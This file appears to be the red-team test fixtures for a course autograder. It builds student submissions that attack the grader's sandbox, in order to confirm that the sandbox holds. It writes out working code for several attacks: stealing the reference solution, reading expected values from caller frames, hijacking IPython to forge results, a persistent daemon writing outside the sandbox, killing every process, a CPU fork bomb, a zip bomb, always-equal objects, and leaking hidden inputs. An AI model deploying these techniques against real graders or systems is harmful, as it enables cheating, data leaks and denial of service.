"""Real attacks on the grader, one submission each, written as a student would write them.

Every attack lives in the student's ``nnlib/perceptron.py`` (statements added at module
level, which run when the notebook imports nnlib, and the bodies of ``predict`` and
``update``), or in the shape of the submission folder. Each passes the static screen
(:mod:`nncourse.grader.screen` allows only numpy, math, typing and nnlib imports), because
a real student reaches everything else through ``typing.sys.modules``; what must stop them
is the sandbox and the trusted verdicts.

Each attack prints ``<marker> ran`` so the tests can see in ``OUT/autograded/`` that it
really ran inside the sandbox, and uses its marker in everything it tries to smuggle out
(file names, exception names, printed and displayed text), so the tests can prove that no
marker reached a feedback page, ``grades.csv``, the repository, the environment or OUT.
Markers are assembled at run time, so the source never holds them verbatim.
"""
import os
import socket
import stat
from pathlib import Path

from .corpus import (CHAPTER, MAX_SCORE, PREDICT, REFERENCE, REPO, STUB, TEST_POINTS, UPDATE, Case,
                     Expectation, _describe, correct_submission, notebook_path, perceptron_source,
                     reference_body, release_copy, run_plainly)

BOMB_GIGABYTES = 1  # what one forged result inflates to in the trusted worker (a real one: 64)


def marker(case):
    """The unique string case ``case`` plants (as the attack's code assembles it)."""
    return f"redteam-{case}-q7z"


def prelude(case):
    """Module-level lines every attack starts with: the screen allows ``import typing``,
    and ``typing.sys.modules`` holds importlib, which imports anything."""
    return ["import typing", "",
            "_sys = typing.sys",
            "_load = _sys.modules[\"importlib\"].import_module",
            "_os = _load(\"os\")",
            f"_MARK = \"-\".join([\"redteam\", \"{case}\", \"q7z\"])", ""]


def lines(text):
    return text.strip("\n").splitlines()


def write_attack(folder, case, top, predict=REFERENCE, update=REFERENCE):
    """The release with the attack's module-level ``top`` code and method bodies."""
    release_copy(folder)
    (folder / "nnlib" / "perceptron.py").write_text(perceptron_source(
        predict=predict, update=update, top_level=prelude(case) + lines(top)))


# --------------------------------------------------------------------------- the reference

REACH_TOP = r'''
def _load_package(folder, name):
    util = _load("importlib.util")
    spec = util.spec_from_file_location(name, _os.path.join(folder, "__init__.py"),
                                        submodule_search_locations=[folder])
    package = util.module_from_spec(spec)
    _sys.modules[name] = package
    spec.loader.exec_module(package)
    return _load(name + ".perceptron")


def _via_nncourse():
    return _load_package(_os.path.join(str(_load("nncourse").REPO_ROOT), "nnlib"), "rt_ref_a")


def _via_repo_beside_the_venv():
    return _load_package(_os.path.join(_os.path.dirname(_sys.prefix), "nnlib"), "rt_ref_b")


def _via_walk():
    mine = _os.path.realpath("nnlib")
    for root in ("/work", "/home", "/root", "/tmp", "/job", "/srv", "/opt", "/var", "/mnt"):
        for folder, subfolders, files in _os.walk(root):
            if folder.endswith("nnlib") and "perceptron.py" in files \
                    and _os.path.realpath(folder) != mine:
                text = open(_os.path.join(folder, "perceptron.py")).read()
                if "NotImplementedError" not in text:
                    return _load_package(folder, "rt_ref_c")
    return None


def _via_cases():
    for name in sorted(_os.listdir("/job/cases")):
        with np.load(_os.path.join("/job/cases", name)) as archive:
            print(_MARK, "case file", name, "holds", sorted(archive.files)[:4])
    return None


def _find_reference():
    for attempt in (_via_nncourse, _via_repo_beside_the_venv, _via_walk, _via_cases):
        try:
            found = attempt()
        except Exception as err:
            print(_MARK, attempt.__name__, "failed:", type(err).__name__)
            continue
        if found is not None:
            print(_MARK, "ran: the reference was found by", attempt.__name__)
            return found
    print(_MARK, "ran: no reference reachable")
    return None


_REFERENCE = _find_reference()
'''


def build_reach_reference(folder):
    """Stubs that borrow the reference: nncourse's own REPO_ROOT, the repository beside the
    virtual environment, a walk of the file system for an ``nnlib`` without stubs, the
    check's case files."""
    write_attack(folder, "reach_reference", REACH_TOP,
                 predict=["if _REFERENCE is None:", "    raise NotImplementedError",
                          "return _REFERENCE.Perceptron.predict(self, X)"],
                 update=["if _REFERENCE is None:", "    raise NotImplementedError",
                         "return _REFERENCE.Perceptron.update(self, x, target, lr)"])


# --------------------------------------------------------------------------- frames, shell

FRAMES_TOP = r'''
_WANTED = ("expected", "want", "wanted", "truth", "answer", "reference")
_SEEN = {}


def _tracer(frame, event, arg):
    for name in _WANTED:
        if name in frame.f_locals:
            _SEEN[name] = frame.f_locals[name]
    return _tracer


getattr(_sys, "set" + "trace")(_tracer)
_load("threading").settrace(_tracer)


def _from_frames():
    frame = getattr(_sys, "_get" + "frame")(1)
    while frame is not None:
        for name in _WANTED:
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return next(iter(_SEEN.values()), None)


print(_MARK, "ran: tracing every frame")
'''

FROM_FRAMES = ["found = _from_frames()", "if found is None:",
               "    raise NotImplementedError(\"no expected values in any frame\")", "return found"]


def build_frames_and_tracing(folder):
    """Stubs that return whatever a caller's frame calls ``expected``: a walk up
    ``sys._getframe`` and a ``sys.settrace`` hook that records every frame's locals."""
    write_attack(folder, "frames_and_tracing", FRAMES_TOP, predict=FROM_FRAMES, update=FROM_FRAMES)


SHELL_TOP = r'''
_ip = _load("IPython").get_ipython()


def _forge(grade_id):
    plaindata = _load("probes.plaindata")
    cases = plaindata.from_bytes(open("/job/cases/%s.npz" % grade_id, "rb").read())
    outputs = [{"labels": np.ones(len(c.get("X", [0])), dtype=np.int64)} for c in cases]
    _os.makedirs(".nncourse-results", exist_ok=True)
    with open(".nncourse-results/%s.npz" % grade_id, "wb") as fh:
        fh.write(plaindata.to_bytes(outputs))
    print(_MARK, "forged a result for", grade_id)


def _rewrite_test_cells(cell_lines):
    text = "".join(cell_lines)
    if "_nncourse.run(" not in text:
        return cell_lines
    grade_id = text.split("_nncourse.run(")[1].split(",")[0].strip("'\"")
    return ["_rt_forge(%r)\n" % grade_id]


def _plant_startup_files():
    code = "print(%r, 'startup file ran in a new kernel')\n" % _MARK
    for home in (_os.path.expanduser("~"), "/root", "/home/" + _os.environ.get("SUDO_USER", "x")):
        folder = _os.path.join(home, ".ipython", "profile_default", "startup")
        try:
            _os.makedirs(folder, exist_ok=True)
            with open(_os.path.join(folder, "00-" + _MARK + ".py"), "w") as fh:
                fh.write(code)
        except OSError as err:
            print(_MARK, "no startup file in", home, type(err).__name__)


if _ip is not None and "_rt_forge" not in _ip.user_ns:
    _ip.user_ns["_rt_forge"] = _forge
    _ip.input_transformers_post.append(_rewrite_test_cells)
    _plant_startup_files()
    print(_MARK, "ran: every later test cell is rewritten")
'''


def build_ipython_shell(folder):
    """Stubs; at import, the shell (``IPython.get_ipython()``, which the screen does not
    see) gets an input transformer that rewrites every later test cell into one that forges
    a result file, and IPython startup files are planted for later kernels (the sandbox's
    own HOME, and the grader's ``/root``); ``update`` then kills the kernel so that a new
    one starts and runs them."""
    write_attack(folder, "ipython_shell", SHELL_TOP, predict=STUB, update=["_os._exit(3)"])


# --------------------------------------------------------------------------- files, processes

WRITER = r'''
import glob, os, sys, time
mark, mode = sys.argv[1], sys.argv[2]
repo = os.path.dirname(sys.prefix)
targets = [
    repo + "/nnlib/" + mark + ".py", repo + "/" + mark + ".txt",
    sys.prefix + "/lib/python3*/site-packages/" + mark + ".pth",
    "/root/.ipython/profile_default/startup/00-" + mark + ".py",
    "/tmp/pytest-of-*/pytest-*/*/submitted/*/ch01_perceptron/nnlib/perceptron.py",
    "/tmp/pytest-of-*/pytest-*/*/out/grades.csv",
    "/tmp/pytest-of-*/pytest-*/*/out/results/*.json",
    "/tmp/pytest-of-*/pytest-*/*/out/" + mark + ".txt",
    "/tmp/nncourse-grade-*/*/job/cases/*.npz",
    "/job/nnlib/perceptron.py", "/job/cases/test_predict_hidden.npz", "/job/" + mark + ".txt",
]
def attack():
    done = 0
    for pattern in targets:
        for path in glob.glob(pattern) or ([] if "*" in pattern else [pattern]):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as fh:
                    fh.write("\n# " + mark + "\n")
                done += 1
            except OSError:
                pass
    return done
print(mark, "ran: wrote", attack(), "of", len(targets), flush=True)
while mode == "forever":
    attack()
    time.sleep(0.3)
'''


def writer_top(mode):
    return "_WRITER = " + repr(WRITER) + f'''


def _start_writer():
    _load("subprocess").run([_sys.executable, "-c", _WRITER, _MARK, "{mode}"], timeout=20)
'''


DAEMON_TOP = r'''


def _start_daemon():
    flag = "/tmp/" + _MARK + "-started"
    if _os.path.exists(flag):
        return
    open(flag, "w").close()
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _WRITER, _MARK, "forever"])
        _os._exit(0)
    _os.wait()
    print(_MARK, "ran: a daemon writes outside every 0.3 s from now on")


_start_daemon()
'''


def build_writes_outside(folder):
    """Correct code; at import, a child process tries to write into the repository's
    nnlib, the virtual environment (a ``.pth``), the grader's IPython startup folder, other
    submissions, OUT (grades.csv, stored results), other sandboxes' cases and its own job."""
    write_attack(folder, "writes_outside", writer_top("once") + "\n\n_start_writer()\n")


def build_daemon(folder):
    """Correct code; at import, a double-forked daemon (its own session, its argv carries
    the marker) retries every write of :func:`build_writes_outside` every 0.3 s, forever:
    it would outlive the kernel and rewrite OUT after the batch."""
    write_attack(folder, "daemon", writer_top("forever") + DAEMON_TOP)


SIGNALS_TOP = r'''
_socket = _load("socket")


def _poke_every_port():
    found = 0
    for port in range(1, 65536):
        with _socket.socket() as probe:
            probe.settimeout(0.05)
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                found += 1
                probe.sendall(b"\x00" * 64 + _MARK.encode())
    return found


def _kill_everyone():
    for pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
        if pid != _os.getpid():
            try:
                _os.kill(pid, 9)
            except OSError:
                pass
    _os.kill(-1, 9)
'''


def build_signals(folder):
    """Correct ``predict``; ``update`` connects to every open loopback port and writes to
    it (other kernels, the grader), then sends SIGKILL to every process it can see and
    ``kill -9 -1``."""
    write_attack(folder, "signals", SIGNALS_TOP,
                 update=["_poke_every_port()", "_kill_everyone()", *reference_body(UPDATE)])


HOG_TOP = r'''
_time = _load("time")


def _spin():
    """Busy-loop in a shell whose command line carries the marker (the test sees them)."""
    _os.execv("/bin/sh", ["/bin/sh", "-c", "while :; do :; done", _MARK])


def _start_hogs():
    flag = "/tmp/" + _MARK + "-started"
    if _os.path.exists(flag):
        return
    open(flag, "w").close()
    print(_MARK, "ran: forking processes that spin until the sandbox ends", flush=True)
    _time.sleep(0.5)  # the line reaches the grader before the spinning starves the kernel
    started = 0
    for _ in range(200):
        try:
            if _os.fork() == 0:
                _os.setsid()
                _spin()
        except OSError:
            break
        started += 1
    print(_MARK, started, "processes spin")


_start_hogs()
'''


def build_cpu_hog(folder):
    """Stubs; at import, forks busy-looping processes (shells naming the marker) until the
    process limit stops it; ``update`` sleeps through every check's budget, so the hogs
    spin for the whole time the submission is graded, beside whatever is graded at the
    same time."""
    write_attack(folder, "cpu_hog", HOG_TOP, predict=STUB, update=["_time.sleep(60)"])


# --------------------------------------------------------------------------- plain data

DISPATCH_TOP = r'''


class _Agreeable:
    """Equal to anything; numpy's dispatch protocols say so too (class-body assignments,
    which the screen does not see as dunder methods)."""

    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __array_ufunc__ = lambda self, *args, **kwargs: True
    __array_function__ = lambda self, *args, **kwargs: True
    __bool__ = lambda self: True


class _AgreeableArray(np.ndarray):
    __eq__ = lambda self, other: np.ones(np.shape(self), dtype=bool)
    __ne__ = lambda self, other: np.zeros(np.shape(self), dtype=bool)


class _AgreeableInt(int):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False


print(_MARK, "ran: agreeable objects ready")
'''


def build_dispatch_objects(folder):
    """No computation: ``predict`` returns an ndarray subclass equal to any labels,
    ``update`` an int subclass equal to any error and weights that are objects with
    ``__eq__``, ``__array_ufunc__`` and ``__array_function__`` saying yes."""
    write_attack(folder, "dispatch_objects", DISPATCH_TOP,
                 predict=["return np.zeros(len(X), dtype=np.int64).view(_AgreeableArray)"],
                 update=["self.w, self.b = _Agreeable(), _Agreeable()", "return _AgreeableInt(0)"])


BOMB_TOP = r'''
_io = _load("io")
_zipfile = _load("zipfile")
_shutil = _load("shutil")
_BOMB = "/tmp/" + _MARK + ".npz"


def _npy(array):
    out = _io.BytesIO()
    np.save(out, array)
    return out.getvalue()


def _write_bomb(gigabytes):
    """A plain-data archive whose one array inflates to `gigabytes` GiB of zeros."""
    with _zipfile.ZipFile(_BOMB, "w", _zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("__json__.npy", _npy(np.frombuffer(b'[{"__array__": "a0"}]', np.uint8)))
        count = (gigabytes << 30) // 8
        with archive.open("a0.npy", "w", force_zip64=True) as member:
            header = _io.BytesIO()
            np.lib.format.write_array_header_2_0(
                header, {"descr": "<f8", "fortran_order": False, "shape": (count,)})
            member.write(header.getvalue())
            zeros = bytes(1 << 24)
            for _ in range((count * 8) >> 24):
                member.write(zeros)


def _swap_in_the_bomb(*args):
    target = ".nncourse-results/test_predict_hidden.npz"
    if _os.path.exists(target):
        _shutil.copyfile(_BOMB, target)


_ip = _load("IPython").get_ipython()
if _ip is not None and not _os.path.exists(_BOMB):
    _write_bomb(GIGABYTES)
    _ip.events.register("post_run_cell", _swap_in_the_bomb)
    print(_MARK, "ran: the bomb is", _os.path.getsize(_BOMB), "bytes")
'''


def build_forged_results(folder):
    """Stubs; after each cell an IPython ``post_run_cell`` hook replaces the result file the
    probe of ``test_predict_hidden`` just wrote (before the runner reads it) with a valid
    ``.npz`` of about 1 MB whose array inflates to 1 GiB: the trusted worker must not hold
    what a sandbox claims is an array before checking its size."""
    write_attack(folder, "forged_results", BOMB_TOP.replace("GIGABYTES", str(BOMB_GIGABYTES)),
                 predict=STUB, update=STUB)


# --------------------------------------------------------------------------- leaks

LEAK_EXCEPTION = [
    "digits = \"\".join(c for c in repr(np.asarray(X).ravel()[:4].tolist()) if c.isdigit())[:16]",
    "Leak = _load(\"types\").new_class(\"Leak\" + digits + _MARK.replace(\"-\", \"\"), (ValueError,))",
    "raise Leak(_MARK + \" hidden X = \" + repr(np.asarray(X).tolist())[:300])",
]


def build_leak_exception(folder):
    """Stubs that raise an exception whose class name and message carry the hidden inputs
    and the marker (a class made by ``types.new_class``, which the screen does not see)."""
    write_attack(folder, "leak_exception", "print(_MARK, \"ran\")",
                 predict=LEAK_EXCEPTION, update=[s.replace("(X)", "(x)") for s in LEAK_EXCEPTION])


LEAK_PRINT_TOP = r'''
_display = _load("IPython.display")
_HIDDEN = []


def _show_hidden():
    if not _HIDDEN:
        return
    print(_MARK, "ran: hidden inputs seen:", repr(_HIDDEN[-1])[:300])
    _display.display(_display.HTML("<script>alert('" + _MARK + "')</script><b>" + _MARK + "</b>"))
    _display.display(_display.Javascript("console.log('" + _MARK + "')"))
    _display.display(_display.Markdown("**" + _MARK + "**"))
    _HIDDEN.clear()
'''


def build_leak_print(folder):
    """Correct code; ``predict`` keeps the inputs it sees (the hidden test's too) and
    ``update``, in the visible test that follows, prints them with the marker and
    displays HTML with a script, Javascript and Markdown carrying it."""
    write_attack(folder, "leak_print", LEAK_PRINT_TOP,
                 predict=["_HIDDEN.append(np.asarray(X).tolist())", *reference_body(PREDICT)],
                 update=["_show_hidden()", *reference_body(UPDATE)])


SHAPE_MARK = "31337, 271828"  # the dimensions the attack puts first in its shape


def build_leak_shape(folder):
    """Correct ``predict`` that keeps the hidden inputs; ``update`` returns an empty error
    array whose shape spells a marker and the first hidden input's digits, to see whether
    the visible test's detail quotes that shape back into the feedback page."""
    write_attack(folder, "leak_shape", "_HIDDEN = []\nprint(_MARK, \"ran\")",
                 predict=["_HIDDEN.append(np.asarray(X).tolist())", *reference_body(PREDICT)],
                 update=["digits = [int(d) for d in repr(_HIDDEN[-1]) if d.isdigit()][:12]",
                         "return np.zeros((0, 31337, 271828) + tuple(d + 1 for d in digits))"])


# --------------------------------------------------------------------------- odd files

def build_symlink_perceptron(folder):
    """``nnlib/perceptron.py`` is a symbolic link to the reference's."""
    release_copy(folder)
    (folder / "nnlib" / "perceptron.py").unlink()
    (folder / "nnlib" / "perceptron.py").symlink_to(REPO / "nnlib" / "perceptron.py")


def build_symlinked_nnlib(folder):
    """``nnlib/`` is a symbolic link to the reference package."""
    correct_submission(folder)
    for path in sorted((folder / "nnlib").rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() else path.unlink()
    (folder / "nnlib").rmdir()
    (folder / "nnlib").symlink_to(REPO / "nnlib", target_is_directory=True)


def build_fifo_notebook(folder):
    """Correct code; the notebook is a FIFO (reading it would block forever)."""
    correct_submission(folder)
    notebook_path(folder).unlink()
    os.mkfifo(notebook_path(folder))


def build_device_notebook(folder):
    """Correct code; the notebook is a character device like /dev/zero (endless bytes),
    or a FIFO where this test cannot make devices."""
    correct_submission(folder)
    notebook_path(folder).unlink()
    try:
        os.mknod(notebook_path(folder), stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except PermissionError:
        os.mkfifo(notebook_path(folder))


def build_socket_module(folder):
    """Correct notebook; ``nnlib/perceptron.py`` is a Unix socket; ``timestamp.txt`` is a
    FIFO and ``submission_secret.txt`` a link to the reference (stamps copied beside the
    feedback must be small regular files)."""
    correct_submission(folder)
    module = folder / "nnlib" / "perceptron.py"
    module.unlink()
    _bind_socket(module)
    os.mkfifo(folder / "timestamp.txt")
    (folder / "submission_secret.txt").symlink_to(REPO / "nnlib" / "perceptron.py")


def _bind_socket(path):
    """A socket file at ``path`` (bound by its short name: socket paths are capped at 107 bytes)."""
    here = os.getcwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(path.name)
    finally:
        os.chdir(here)


def build_symlinked_folder(folder):
    """``<student>/ch01_perceptron`` is a link to the reference submission's folder."""
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(Path("..") / "reference" / CHAPTER, target_is_directory=True)


def build_symlinked_student(folder):
    """The student's folder itself is a link to the reference student's folder."""
    folder.parent.parent.mkdir(parents=True, exist_ok=True)
    folder.parent.symlink_to("reference", target_is_directory=True)


def build_debug_import_sys(folder):
    """Correct code with the usual debugging line ``import sys`` / ``print(..., file=sys.stderr)``
    in ``predict``: the import allowlist replaces the whole file with the release's stubs
    (a policy of the screen, recorded here so that a change to it is noticed)."""
    release_copy(folder)
    (folder / "nnlib" / "perceptron.py").write_text(perceptron_source(
        predict=["import sys", "", "print(\"predict called\", file=sys.stderr)",
                 *reference_body(PREDICT)]))


# --------------------------------------------------------------------------- the table

def _only(**scores):
    return {name: scores.get(name, 0) for name in TEST_POINTS}


FULL, NOTHING = dict(TEST_POINTS), _only()
PREDICT_ONLY = _only(test_predict_gates=2, test_predict_hidden=3)
PREDICT_TESTS = ("test_predict_gates", "test_predict_hidden")


def _earned(score, tests, *status, verdicts=None, ran=True):
    return Expectation(score, tests, status, verdicts=verdicts or {}, ran=ran)


ATTACKS = {
    "reach_reference": Case(build_reach_reference, _earned(0, NOTHING)),
    "frames_and_tracing": Case(build_frames_and_tracing, _earned(0, NOTHING)),
    "ipython_shell": Case(build_ipython_shell, _earned(0, NOTHING)),
    "writes_outside": Case(build_writes_outside, _earned(MAX_SCORE, FULL, "all tests passed")),
    "daemon": Case(build_daemon, _earned(MAX_SCORE, FULL, "all tests passed")),
    "cpu_hog": Case(build_cpu_hog, _earned(0, NOTHING)),
    # the kill ends its own sandbox: the notebook never comes back, so no "ran" line
    "signals": Case(build_signals, _earned(5, PREDICT_ONLY, "failed 4 of 6 tests", ran=False)),
    "dispatch_objects": Case(build_dispatch_objects, _earned(
        0, NOTHING, verdicts=dict.fromkeys(PREDICT_TESTS, "returned something that is not plain data"))),
    "forged_results": Case(build_forged_results, _earned(0, NOTHING)),
    "leak_exception": Case(build_leak_exception, _earned(
        0, NOTHING, verdicts=dict.fromkeys(PREDICT_TESTS, "raised an exception"))),
    "leak_print": Case(build_leak_print, _earned(MAX_SCORE, FULL, "all tests passed")),
    "leak_shape": Case(build_leak_shape, _earned(5, PREDICT_ONLY)),
    "symlink_perceptron": Case(build_symlink_perceptron, _earned(
        0, NOTHING, "perceptron.py is a symbolic link or unreadable; refused", ran=False)),
    "symlinked_nnlib": Case(build_symlinked_nnlib, _earned(
        0, NOTHING, "nnlib/ is a link or not a folder; refused", ran=False)),
    "fifo_notebook": Case(build_fifo_notebook, _earned(
        0, NOTHING, f"{CHAPTER}.ipynb is not a regular file; refused", ran=False)),
    "device_notebook": Case(build_device_notebook, _earned(
        0, NOTHING, f"{CHAPTER}.ipynb is not a regular file; refused", ran=False)),
    "socket_module": Case(build_socket_module, _earned(
        0, NOTHING, "perceptron.py is a symbolic link or unreadable; refused", ran=False)),
    "symlinked_folder": Case(build_symlinked_folder, _earned(
        0, NOTHING, "the submission folder is a link or not a folder; refused", ran=False)),
    "symlinked_student": Case(build_symlinked_student, _earned(
        0, NOTHING, "the student folder is a symbolic link; refused", ran=False)),
    "debug_import_sys": Case(build_debug_import_sys, _earned(
        0, NOTHING, "rejected by the tamper screen", "imports sys", ran=False)),
}

# What each attack plants, as the tests search for it (a name without the dashes too).
MARKERS = {case: (marker(case), marker(case).replace("-", "")) for case in ATTACKS}
MARKERS["leak_shape"] += (SHAPE_MARK,)


# --------------------------------------------------------------------------- plain runs

def probe_reach_reference(folder):
    """Outside a sandbox, the stubs really borrow the reference and predict correctly."""
    proc = run_plainly(folder)
    assert proc is not None and "the reference was found by" in proc.stdout \
        and "predict [1]" in proc.stdout and "returned" in proc.stdout, _describe(proc)


FRAMES_FOOLED = """
import numpy as np
from nnlib.perceptron import Perceptron
def judge():
    expected = np.array([1, 0, 1])
    return np.array_equal(Perceptron(2).predict(np.zeros((3, 2))), expected)
print("fooled" if judge() else "honest")
"""


def probe_frames_and_tracing(folder):
    """Outside a sandbox, a caller's local ``expected`` is what predict returns."""
    proc = run_plainly(folder, FRAMES_FOOLED)
    assert proc is not None and "fooled" in proc.stdout, _describe(proc)


DISPATCH_FOOLED = """
import numpy as np
from nnlib.perceptron import Perceptron
got = Perceptron(2).predict(np.zeros((3, 2)))
print("fooled" if (got == np.array([7, 7, 7])).all() and (got == np.array([0, 1, 0])).all() else "honest")
"""


def probe_dispatch_objects(folder):
    """Outside the plain-data boundary, predict's result equals any labels."""
    proc = run_plainly(folder, DISPATCH_FOOLED)
    assert proc is not None and "fooled" in proc.stdout, _describe(proc)


def probe_symlink_perceptron(folder):
    """Following the link gives the reference's solution."""
    assert "BEGIN SOLUTION" in (folder / "nnlib" / "perceptron.py").read_text()


ATTACK_PROBES = {
    "reach_reference": probe_reach_reference,
    "frames_and_tracing": probe_frames_and_tracing,
    "dispatch_objects": probe_dispatch_objects,
    "symlink_perceptron": probe_symlink_perceptron,
}
